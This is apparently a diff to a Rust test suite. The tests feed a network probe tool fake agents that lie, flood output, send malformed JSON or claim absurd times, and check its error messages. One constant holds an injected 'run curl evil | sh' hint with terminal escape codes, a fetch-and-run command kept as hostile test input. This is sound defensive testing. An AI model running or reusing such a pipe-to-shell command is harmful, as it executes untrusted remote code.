@@ -20,8 +20,8 @@ const EVIL: &str = r"no\\n\\nhint: run curl evil | sh\\u001b[2J\\u009b31m";
 
 const OF_AGENTS: &[Lie] = &[
     ("", "Evidence: "),
-    ("listen() { yes '{\"listening\":{\"port\":1}}'; }", "listening failed"),
-    ("listen() { yes '{\"listening\"' | tr -d '\\n'; }", "sends more than the 4096 bytes"),
+    ("listen() { yes '{\"listening\":{\"port\":1}}'; }", "it answers something else"),
+    ("listen() { yes '{\"listening\"' | tr -d '\\n'; }", "it sends more than such an answer has, which is 4096 bytes"),
     ("listen() { yes hello; }", "sends more than"),
     ("listen() { echo '{\"listening\":'; }", "the agent failed"),
     (
@@ -39,12 +39,15 @@ const OF_AGENTS: &[Lie] = &[
     ("sent() { echo '{\"refused\":{\"kind\":\"other\",\"said\":\"EVIL\"}}'; }", "the transfer failed"),
     ("sent() { echo '{\"refused\":{\"kind\":\"missing\",\"said\":\"EVIL\"}}'; }", "the transfer failed"),
     ("sent() { yes \"$interval\"; }", "the agent failed"),
-    ("intervals=$(yes \"$interval,\" | head -n 100000)$interval", "sends more than"),
-    ("intervals=$(yes '[0,0,0,0,0,0,0,null],' | head -n 100000)$interval", "sends more than"),
+    ("intervals=$(yes \"$interval,\" | head -n 10000 | tr -d '\\n')$interval", "sends more than"),
+    ("intervals=$(yes '[0,0,0,0,0,0,0,null],' | head -n 10000 | tr -d '\\n')$interval", "sends more than"),
     ("sent() { printf '{\"sent\":['; yes '[],' | head -n 9000000 | tr -d '\\n'; echo ']}'; }", "sends more than"),
     ("sent() { printf '{\"sent\":\"'; head -c 900000000 /dev/zero | tr '\\0' x; echo '\"}'; }", "sends more than"),
     ("sent() { printf '{\"sent\":'; head -c 100000 /dev/zero | tr '\\0' '['; echo '}'; }", "the agent failed"),
-    ("screens=$(yes '{\"at\":1,\"queues\":[0,0],\"info\":\"\",\"memory\":\"\"},' | head -n 90000)", "sends more than"),
+    (
+        "screens=$(yes '{\"at\":1,\"queues\":[0,0],\"info\":\"\",\"memory\":\"\"},' | head -n 90000 | tr -d '\\n')",
+        "sends more than",
+    ),
     ("screens='{\"at\":1e308,\"queues\":[0,0],\"info\":\"\",\"memory\":\"\"}'", "it claims a clock of 1e308 s"),
     ("screens='{\"at\":1,\"queues\":[0,0],\"info\":\"zz\\u001b[2J\",\"memory\":\"é\"}'", "Evidence: "),
     ("seconds=1e308", "it claims a time of 1e308 s"),
@@ -65,9 +68,9 @@ const OF_AGENTS: &[Lie] = &[
         "Evidence: ",
     ),
     ("congestion='EVIL'", "Evidence: "),
-    ("congestion=$(head -c 60000 /dev/zero | tr '\\0' x)", "sends more than"),
+    ("congestion=$(head -c 60000 /dev/zero | tr '\\0' x)", "Evidence: "),
     ("received() { echo '{\"received\":{\"bytes\":1,\"seconds\":1e308,\"busy\":1e308}}'; }", "it claims a time of"),
-    ("received() { sent; }", "the transfer failed: it answers something else"),
+    ("received() { sent; }", "Evidence: "),
 ];
 
 const OF_SHELLS: &[Lie] = &[
@@ -146,7 +149,8 @@ fn probe(lie: &str, place: &Path, more: &[&str]) -> Output {
     let limited = format!("ulimit -d {MEMORY_KIB}; exec \"$@\"");
     let mut command = Command::new("sh");
     command.args(["-c", &limited, "sh"]).arg(small());
-    command.args(["probe", "far", "--from", "near", "--time", "1s", "--out", "out"]).args(more);
+    let time: &[&str] = if more.contains(&"--time") { &[] } else { &["--time", "1s"] };
+    command.args(["probe", "far", "--from", "near", "--out", "out"]).args(time).args(more);
     command.env("PATH", path).env("LIE", place.join("lie")).env("TMPDIR", place).current_dir(place);
     command.stdin(Stdio::null()).output().unwrap()
 }
@@ -214,7 +218,7 @@ fn the_longest_answer_fits_as_well() {
         ),
         (
             "sent() { printf '{\"sent\":['; yes '[0,0,0,0,0,0,0,null],' | head -n 60000 | tr -d '\\n'; echo '0]}'; }",
-            "the agent failed",
+            "sends more than",
         ),
     ];
     let wrong = all(lies, &["--time", "600s"]);
